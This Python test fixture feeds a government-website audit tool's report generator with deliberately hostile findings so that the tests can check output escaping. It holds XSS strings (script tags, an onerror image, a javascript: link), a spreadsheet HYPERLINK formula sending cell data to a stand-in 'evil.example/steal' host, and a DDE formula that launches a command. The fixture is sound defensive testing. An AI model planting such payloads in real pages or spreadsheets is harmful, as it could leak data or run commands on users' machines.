"""A small run with hostile page data, shared by the report tests.

The findings imitate what a tampered or careless site feeds the reports:
markup in titles, quotes and ``</script>`` in URLs, a ``javascript:`` target,
spreadsheet formulas in messages, control characters, nested evidence.
Three departments are configured and one of them has no finding, so the
"nothing found" path is always exercised.
"""

from __future__ import annotations

from datetime import date

from govcrawl.model import Finding, RunInfo, Severity
from reports import CheckMeta, ReportInput

SCRIPT_TITLE = "<script>alert(1)</script>"
# Breaks out of an attribute, then out of a <script> block, each time setting a marker.
HOSTILE_URL = (
    'https://www.example.gov.cn/search?q="><img src=x onerror="window.__xss=1;alert(1)">'
    "</script><script>window.__xss=2;alert(2)</script>"
)
FORMULA_MESSAGE = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看")'
FORMULA_TARGET = "@SUM(1+1)*cmd|' /C calc'!A0"
JS_TARGET = "javascript:window.__xss=3;alert(3)"
BELL_TITLE = "响铃\x07标题"  # a control character, illegal in XLSX XML

OWNER = "政府办"
SLASH_DEPARTMENT = "司法局/法律援助中心"  # '/' is not allowed in a sheet name
EMPTY_DEPARTMENT = "财政局"
DEPARTMENTS = [OWNER, SLASH_DEPARTMENT, EMPTY_DEPARTMENT]

CATALOGUE = [
    CheckMeta(
        id="broken-link",
        title="链接不可用",
        severity=Severity.CRITICAL,
        basis="2023年政务公开工作要点 第26条",
        fix="修改或删除失效链接。",
        summary="链接返回 404/410/5xx 或无法连接。",
    ),
    CheckMeta(
        id="missing-validity",
        title="规范性文件未标注有效性",
        severity=Severity.MAJOR,
        basis="2023年政务公开工作要点 第9条",
        fix="在文件信息栏标注“有效/失效/废止”或写明有效期。",
    ),
    CheckMeta(
        id="a11y",
        title="无障碍问题",
        severity=Severity.MINOR,
        basis="2023年政务公开工作要点 第26条",
        fix="为图片补充替代文本。",
    ),
    CheckMeta(
        id="empty-column",
        title="空白栏目",
        severity=Severity.CRITICAL,
        basis="国家检查指标 空白栏目",
        fix="补充内容或撤销栏目。",
    ),
]


def _findings() -> list[Finding]:
    base = "https://www.example.gov.cn"
    return [
        Finding(
            id="broken-link:0000000000000000000a",
            check="broken-link",
            severity=Severity.CRITICAL,
            department=OWNER,
            url=f"{base}/zwgk/index.html",
            target=f"{base}/zwgk/2022/report.pdf",
            title=SCRIPT_TITLE,
            message="页面上的链接“2022年政府工作报告”已失效（HTTP 404）。",
            evidence={
                "http_status": 404,
                "reason": "HTTP 404",
                "redirect_chain": [[f"{base}/a", f"{base}/b"], [f"{base}/c"]],
                "nodes": [{"selector": "img", "html": "<img src=x onerror=window.__xss=4>"}],
            },
            occurrences=[f"{base}/zwgk/p{i}.html" for i in range(8)],
        ),
        Finding(
            id="broken-link:0000000000000000000b",
            check="broken-link",
            severity=Severity.CRITICAL,
            department=OWNER,
            url=HOSTILE_URL,
            target=JS_TARGET,
            title=None,
            message=FORMULA_MESSAGE,
            evidence={"reason": "连接超时", "linked_from": [f"{base}/x{i}.html" for i in range(20)]},
        ),
        Finding(
            id="a11y:0000000000000000000c",
            check="a11y",
            severity=Severity.MINOR,
            department=OWNER,
            url=f"{base}/index.html",
            target=FORMULA_TARGET,
            title=BELL_TITLE,
            message="-3 张图片缺少替代文本（alt）。",
            evidence={"count": 3, "ok": False, "ratio": 0.5},
        ),
        Finding(
            id="missing-validity:0000000000000000000d",
            check="missing-validity",
            severity=Severity.MAJOR,
            department=SLASH_DEPARTMENT,
            url=f"{base}/sfj/zcwj/t20230315_1.html",
            target=None,
            title="兴庆区司法局关于印发《行政执法公示办法》的通知",
            message="规范性文件未标注有效性。",
            evidence={"doc_number": "银兴司规发〔2023〕1号"},
        ),
    ]


def make_report_input() -> ReportInput:
    """A fresh copy every call, so no test can leak a mutation into another."""
    run = RunInfo(
        id="20231101T020000-test",
        site="xingqing",
        started="2023-11-01T02:00:00+08:00",
        finished="2023-11-01T02:10:00+08:00",
        today=date(2023, 11, 1),
        pages_crawled=42,
        tool_version="0.1.0-test",
        status="completed",
        stats={"pages": 42, "errors": 1, "links_checked": 310},
    )
    return ReportInput(
        site_id="xingqing",
        site_name="银川市兴庆区人民政府",
        run=run,
        findings=_findings(),
        catalogue=list(CATALOGUE),
        departments=list(DEPARTMENTS),
        metrics={"interpretation_coverage": 0.5, "interpretation_video_share": None},
    )
